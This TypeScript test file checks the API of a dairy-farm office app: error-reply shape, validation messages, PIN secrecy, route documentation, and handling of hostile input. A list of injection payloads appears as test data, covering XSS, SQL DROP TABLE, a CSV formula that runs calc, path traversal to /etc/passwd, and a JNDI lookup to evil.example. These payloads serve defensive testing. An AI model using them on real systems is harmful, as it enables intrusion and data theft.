// Room: test/office. Every refusal in one shape, every mistake at once, the description of the routes, and hostile text.

import { expect, onTestFinished, test } from "vitest";
import { refusal } from "../../../src/office/contract/pieces.ts";
import { CSV_LISTS, ROUTES } from "../../../src/office/contract/routes.ts";
import { ROUTE_NAMES, tableRoute } from "../../../src/office/server/asked.ts";
import { FORMS } from "../../../src/office/server/mistakes.ts";
import { StoreFailure, troubles } from "../../../src/store/open-trouble.ts";
import { type OfficeOptions, PIN, ShedOffice, type Told } from "./shed-office.ts";

async function newOffice(options: OfficeOptions = {}): Promise<ShedOffice> {
  const office = await ShedOffice.start(options);
  onTestFinished(() => office.stop());
  return office;
}
const isRefusal = (told: Told): boolean => refusal.safeParse(told.json).success;

test("whatever goes wrong is said in one shape, in whole sentences, without a word of the program's inside", async () => {
  const office = await newOffice({
    handlers: {
      cows: () => {
        throw new Error("SELECT * FROM secret at /home/pi/vatguard.ts:12");
      },
    },
  });
  const manager = await office.manager();
  const own = { origin: office.url };
  const json = { ...own, "content-type": "application/json" };
  const told = [
    await manager.get("/api/nothing"),
    await manager.get("/api/cows/112?x=1"),
    await manager.get("/api/cows"),
    await manager.ask("/api/sign-in", { method: "POST", headers: own, body: "{}" }),
    await manager.ask("/api/sign-in", { method: "POST", headers: json, body: "{" }),
    await manager.ask("/api/sign-in", { method: "POST", headers: json, body: "" }),
    await manager.ask("/api/sign-in", { method: "POST", headers: json, body: "null" }),
    await manager.ask("/api/sign-in", { method: "POST", headers: json, body: "[]" }),
    await manager.ask("/api/sign-in", {
      method: "POST",
      headers: json,
      body: '{"__proto__":{"role":"manager"}}',
    }),
    await manager.ask("/api/sign-in", { method: "POST", headers: json, body: `"${"x".repeat(70_000)}"` }),
    await manager.ask("/api/sign-in", { method: "PUT", headers: json, body: "{}" }),
    await manager.get("/api/%zz"),
    await office.browser().get("/api/cows"),
  ];
  expect(told.map(({ status }) => status)).toEqual([
    404, 400, 500, 400, 400, 400, 400, 400, 400, 413, 404, 404, 401,
  ]);
  for (const one of told) {
    expect(isRefusal(one)).toBe(true);
    expect(one.json.says).toMatch(/^[A-Z].*\.$/);
    expect(one.json.fix).toMatch(/^[A-Z].*\.$/);
    expect(one.text).not.toMatch(/SELECT|vatguard\.ts|stack|at Object|node_modules|FST_|Error/);
    expect(one.headers["cache-control"]).toBe("no-store");
  }
  expect(office.remarks).toEqual([expect.stringContaining("SELECT * FROM secret")]);
});

test("a disk that is full is said in the store's own words", async () => {
  const trouble = troubles.full("/data/office/records.db");
  const office = await newOffice({
    handlers: {
      addFact: () => {
        throw new StoreFailure(trouble);
      },
    },
  });
  const manager = await office.manager();
  const body = {
    kind: "looked-at",
    entry: "6a1f7d0e-5a52-4c07-9d6e-0b1d1f1f0a01",
    cows: ["1"],
    at: "2026-11-23",
  };
  const told = await manager.post("/api/facts", body);
  expect([told.status, told.json.code, told.json.says]).toEqual([503, "not-ready", trouble.says]);
});

test("all mistakes of an entry are said at once, each with its place, what was found, what was expected and what to do", async () => {
  const office = await newOffice();
  const manager = await office.manager();
  const told = await manager.post("/api/treatments?x=1", {
    entry: "1",
    cows: [],
    product: "p1",
    batch: 7,
    quantityEach: -1,
    reason: "x".repeat(201),
    firstDose: AT,
    lastDose: AT,
    quarters: ["left-wing"],
    colour: "red",
  });
  expect([told.status, told.json.code]).toEqual([400, "bad-entry"]);
  expect(told.json.says).toBe("What was sent has 8 mistakes; nothing was saved.");
  expect(told.json.mistakes).toEqual([
    {
      at: "x",
      found: "a field that is not known here",
      expected: expect.any(String),
      fix: expect.any(String),
    },
    { at: "entry", found: '"1"', expected: "a UUID", fix: "Give a UUID." },
    {
      at: "cows",
      found: "a list of 0",
      expected: "a list with a length of at least 1",
      fix: expect.any(String),
    },
    { at: "batch", found: "7", expected: "a text", fix: "Give a text." },
    { at: "quantityEach", found: "-1", expected: "a number of at least 0", fix: expect.any(String) },
    {
      at: "reason",
      found: "a text of 201 characters",
      expected: "a text with a length of at most 200",
      fix: expect.any(String),
    },
    {
      at: "quarters.0",
      found: '"left-wing"',
      expected: expect.stringContaining("left-front"),
      fix: expect.any(String),
    },
    {
      at: "colour",
      found: "a field that is not known here",
      expected: expect.any(String),
      fix: expect.any(String),
    },
  ]);
  expect(office.reached).toHaveLength(0);
});

test("a PIN is never said back", async () => {
  const office = await newOffice();
  for (const pin of ["48159", "4815938274651", 481_593, ["481593"], { pin: "481593" }]) {
    const told = await office.browser().post("/api/sign-in", { person: "anna", pin });
    expect(told.status).toBe(400);
    expect(told.text).not.toContain("48159");
  }
});

test("the forms in words are those of the contract", async () => {
  const office = await newOffice();
  const manager = await office.manager();
  const told = await manager.post("/api/people", { person: "Anna!", name: "A", role: "milker", pin: "12" });
  expect(told.json.mistakes).toMatchObject([
    { at: "person", expected: "a short name of small letters, digits, dots and hyphens" },
    { at: "pin", expected: "six to twelve digits" },
  ]);
  expect(Object.keys(FORMS)).toHaveLength(3);
});

test("the description names every route of the table, with its schemas, and is for people as well", async () => {
  const office = await newOffice();
  const told = await office.browser().get("/api/openapi.json");
  const { paths } = told.json;
  const known = Object.entries(typeof paths === "object" && paths !== null ? paths : {}).flatMap(
    ([url, methods]) => Object.keys(methods).map((method) => `${method.toUpperCase()} ${url}`),
  );
  const wanted = ROUTE_NAMES.map((name) => ROUTES[name].path.replaceAll(/:(\w+)/g, "{$1}"));
  expect(known.sort()).toEqual([...wanted].sort());
  expect(told.text).toContain("Six to twelve digits");
  const page = await office.browser().get("/api");
  for (const name of ROUTE_NAMES) expect(page.text).toContain(tableRoute(name).url);
  for (const name of CSV_LISTS) expect(page.text).toContain(`${tableRoute(name).url}.csv`);
  expect(page.text).not.toMatch(/<script|<style|style=|onclick/);
});

const HOSTILE = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "{{constructor.constructor('alert(1)')()}}",
  "'; DROP TABLE person; --",
  "=cmd|' /C calc'!A0",
  "\u202Egnp.exe",
  "javascript:alert(1)",
  "../../etc/passwd",
  `$${"{jndi:ldap://evil.example/a}"}`,
  "a\u2028b",
  "__proto__",
];
const AT = "2026-11-23T05:40:00Z";

test("hostile text as a name is kept and given back as the text that it is", async () => {
  const office = await newOffice();
  const manager = await office.manager();
  const named = HOSTILE.map((name, n) => ({ person: `jo-${n}`, name }));
  for (const { person, name } of named) {
    const added = await manager.post("/api/people", { person, name, role: "milker", pin: PIN });
    expect(added.json.name).toBe(name);
  }
  await office.restart();
  const told = await manager.get("/api/people");
  expect(told.json.items).toEqual(expect.arrayContaining(named.map((one) => expect.objectContaining(one))));
  expect(told.headers["content-type"]).toBe("application/json; charset=utf-8");
  expect(told.headers["x-content-type-options"]).toBe("nosniff");
  expect(told.headers["content-security-policy"]).toContain("default-src 'self'");
});

test("hostile text of cows, tags and products reaches its handler as it is, and what is too long or no tag does not", async () => {
  const office = await newOffice();
  const manager = await office.manager();
  const entry = "6a1f7d0e-5a52-4c07-9d6e-0b1d1f1f0a01";
  const cow = { entry, cow: "<b>1</b>", name: HOSTILE[0], eids: [], status: "in-milk" };
  expect((await manager.post("/api/cows", cow)).status).toBe(200);
  expect(office.reached.at(-1)?.asked).toMatchObject({ body: { cow: "<b>1</b>", name: HOSTILE[0] } });
  for (const eid of ["<script>", "98200019658849", "9820001965884966", "982000196588496\n", "=1+1"]) {
    expect((await manager.post("/api/cows", { ...cow, eids: [eid] })).status).toBe(400);
  }
  expect((await manager.post("/api/cows", { ...cow, name: "x".repeat(61) })).status).toBe(400);
  const cut = await manager.post("/api/cows", { ...cow, name: "Bella \ud83d" });
  expect(cut.json.mistakes).toMatchObject([{ at: "name", found: "half a character" }]);
  for (const [reason, found] of [
    ["a\u0000b", /order to a screen/],
    ["\u001b[2J all fine", /order to a screen/],
    ["\u200b\u2060", /nothing that can be seen/],
  ] as const) {
    const told = await manager.post("/api/cows", { ...cow, note: reason });
    expect(told.json.mistakes).toMatchObject([{ at: "note", found: expect.stringMatching(found) }]);
  }
  const fine = { ...cow, note: "naïve 👩‍🌾 said:\n\t“شكرا”" };
  expect((await manager.post("/api/cows", fine)).json.mistakes ?? []).toEqual([]);
  const path = `/api/cows/${encodeURIComponent("../<x>")}`;
  expect((await manager.get(path)).status).toBe(200);
  expect(office.reached.at(-1)?.asked).toMatchObject({ params: { cow: "../<x>" } });
});

test("a reply carries what the table says and nothing else that a handler lets slip", async () => {
  const slip = { items: [], next: null, secret: "derived key" };
  const office = await newOffice({ handlers: { milkings: () => ({ ok: true, value: slip }) } });
  expect((await (await office.manager()).get("/api/milkings")).json).toEqual({ items: [], next: null });
});
